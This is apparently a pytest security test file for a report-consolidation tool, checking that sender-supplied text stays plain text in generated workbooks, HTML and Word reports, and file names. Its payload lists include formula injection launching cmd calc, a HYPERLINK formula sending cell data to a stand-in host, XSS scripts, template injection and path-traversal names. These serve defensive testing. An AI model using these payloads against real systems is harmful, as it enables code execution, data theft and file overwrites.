"""What a sender wrote stays text in everything written, and chooses neither a place nor a program."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import browser
import pytest
from cases import real
from docx import Document
from doors import nianbao
from lxml import html
from nianbao.addin.outputs import safe_name, workbook_name
from nianbao.workbook.draw.agency import agency_workbook
from nianbao.workbook.merge.summary.lists import link_target
from nianbao.workbook.submission import Submission
from openpyxl import load_workbook

EVIL = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "<script>document.title='ran'</script>",
    "<img src=x onerror=\"document.title='ran'\">",
    "{{ 7*7 }}{% for a in b %}{{ ''.__class__ }}",
    "http://example.invalid/",
    "javascript:alert(1)",
    "{=1+1}",
    '甲&D乙&Z丙&"字体"局',
)
NAMES = (
    "../../越界局",
    "/etc/越界局",
    "C:\\越界局",
    "\\\\server\\share\\越界局",
    "CON",
    "nul.局",
    "尾点局... ",
    "长" * 300,
    "空\0局",
    "甲局:流",
    "..",
    "",
    "局\u202exslx",
)


def sent(evil: str) -> Submission:
    """A right report whose agency and texts are an attack."""
    given = real(0)
    return replace(given, agency_name=evil, texts=dict.fromkeys(given.texts, f"{evil}"))


def assert_plain(data: bytes, allowed: frozenset[str] = frozenset()) -> None:
    """No evil text became a formula or a link of a workbook."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                text = str(cell.value)
                if cell.data_type == "f":
                    assert not any(word in text for word in ("cmd|", "example.invalid", "calc")), cell
                    assert text != "=1+1"
                if cell.hyperlink and cell.hyperlink.target:
                    target = cell.hyperlink.target.lower()
                    assert not re.match(r"[a-z][a-z0-9+.-]*:|[\\/]{2}", target), target
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if "/_rels/" in name:
                for target in re.findall(r'Target="([^"]*)"', package.read(name).decode()):
                    assert not re.match(r"(?!file:)[A-Za-z][A-Za-z0-9+.-]*:|[\\/]{2}", target), target
            if name.startswith("xl/worksheets/sheet"):
                found = re.findall(rb"<odd(?:Header|Footer)>.*?</odd(?:Header|Footer)>", package.read(name))
                assert not any(b"&amp;Z" in one and b"&amp;&amp;Z" not in one for one in found)


def cells(data: bytes) -> Iterator[tuple[str, str]]:
    """The text cells of a workbook, with their type."""
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            yield from ((str(cell.value), cell.data_type) for cell in row if cell.value is not None)


@pytest.fixture(params=range(len(EVIL)), ids=lambda number: f"evil{number}")
def evil(request: pytest.FixtureRequest) -> str:
    return EVIL[request.param]


def test_the_agency_workbook(evil: str) -> None:
    data = agency_workbook(sent(evil), ())
    assert_plain(data)
    assert (evil.strip(), "s") in [(text.strip(), kind) for text, kind in cells(data)]


def test_everything_the_command_line_writes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """All attacks at once: one file for each, a district named by one, marked, returned, summed, shown."""
    inbox, out = tmp_path / "来件", tmp_path / "出"
    inbox.mkdir()
    out.mkdir()
    for number, text in enumerate(EVIL):
        given = replace(sent(text), agency_code=f"E{number:02}")
        (inbox / f"E{number:02}.xlsx").write_bytes(agency_workbook(given, ()))
    files = sorted(inbox.iterdir())
    summary = out / "汇总.xlsx"
    nianbao(capsys, "consolidate", inbox, "-o", summary, "--agency", EVIL[0], "--code", "D01", "--no-cache")
    nianbao(capsys, "validate", *files, "--mark", out / "标注")
    nianbao(capsys, "returns", inbox, "-o", out / "退回")
    nianbao(capsys, "dashboard", summary, "-o", out / "看板.html")
    written = [path for path in out.rglob("*") if path.is_file()]
    assert {path.suffix for path in written} >= {".xlsx", ".html"}
    assert len([path for path in written if path.suffix == ".xlsx"]) > len(EVIL)
    for path in written:
        assert path.resolve().is_relative_to(out.resolve())
        if path.suffix == ".xlsx":
            assert_plain(path.read_bytes())
        elif path.suffix == ".html":
            page = html.document_fromstring(path.read_text("utf-8"))
            assert not any("document.title" in (script.text or "")[:30] for script in page.iter("script"))
            assert not page.xpath("//img[@onerror]")
        elif path.suffix == ".docx":
            assert all(paragraph.text.strip() != "49" for paragraph in Document(str(path)).paragraphs)
    texts = [one for one in cells(summary.read_bytes()) if one[0] in EVIL]
    assert texts
    assert {kind for _, kind in texts} == {"s"}


@pytest.mark.parametrize("suffix", [".docx", ".html"])
def test_the_report(evil: str, suffix: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.xlsx").write_bytes(agency_workbook(sent(evil), ()))
    out = tmp_path / f"report{suffix}"
    said = nianbao(capsys, "report", tmp_path / "a.xlsx", "-o", out)
    if "{" in evil:
        return  # an unknown field is said, or stands as text: test_publish_fields looks at each
    assert out.is_file(), said.err
    if suffix == ".docx":
        assert any(evil.strip() in paragraph.text for paragraph in Document(str(out)).paragraphs)
        return
    page = html.document_fromstring(out.read_text("utf-8"))
    assert evil.strip() in page.text_content()
    assert not page.xpath("//img[@onerror]")
    assert not any("document.title" in (script.text or "") for script in page.iter("script"))


@pytest.mark.browser
def test_no_script_of_a_report_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "".join(EVIL[9:11])
    (tmp_path / "a.xlsx").write_bytes(agency_workbook(sent(text), ()))
    nianbao(capsys, "report", tmp_path / "a.xlsx", "-o", tmp_path / "report.html")
    visit = browser.visit(tmp_path / "report.html", tmp_path)
    assert (visit.console, visit.requested) == ([], [])
    assert visit.document.findtext(".//title") != "ran"
    assert text in visit.document.text_content()


@pytest.mark.parametrize("name", NAMES)
def test_no_name_chooses_a_place(name: str, tmp_path: Path) -> None:
    for file in (safe_name(name), workbook_name("../A1", name)):
        assert file not in ("", ".", "..")
        assert not re.search(r'[\\/:*?"<>|\x00-\x1f]', file)
        assert not re.match(r"(?i)(con|nul)(\.|$)", file)
        assert not file.endswith((".", " "))
        assert len(file.encode()) <= 255
        assert (tmp_path / file).resolve().parent == tmp_path.resolve()


@pytest.mark.parametrize("name", ["javascript:alert(1).xlsx", "http:/a.xlsx", "\\\\host\\a.xlsx", "C:a.xlsx"])
def test_a_file_name_is_no_address(name: str) -> None:
    assert not re.search(r"[:\\]", link_target(name))
